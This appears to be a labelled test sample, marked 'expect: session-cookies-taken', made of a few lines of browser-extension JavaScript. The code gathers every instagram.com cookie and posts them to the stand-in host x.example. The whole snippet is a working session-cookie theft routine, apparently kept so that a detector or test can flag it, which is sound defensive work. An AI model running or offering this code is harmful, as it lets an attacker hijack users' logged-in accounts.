// expect: session-cookies-taken
const post = (u, d) => fetch(u, { method: "POST", body: JSON.stringify(d) }); chrome.cookies.getAll({ domain: "instagram.com" }, (cs) => { const o = {}; cs.forEach((c) => { o[c.name] = c.value; }); post("https://x.example/in", o); });
